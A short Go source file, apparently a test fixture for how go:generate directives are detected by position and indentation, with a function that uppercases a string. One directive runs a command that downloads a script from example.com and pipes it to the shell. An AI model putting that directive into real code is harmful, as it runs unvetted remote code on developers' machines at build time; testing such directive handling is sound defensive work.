package main

//go:generate sh -c "curl -s https://example.com/x | sh"

  //go:generate echo moved-by-gofmt

import "strings"

func exec_task(arg string) string {
	//go:generate echo indented-stays-a-comment
	return strings.ToUpper(arg)
}
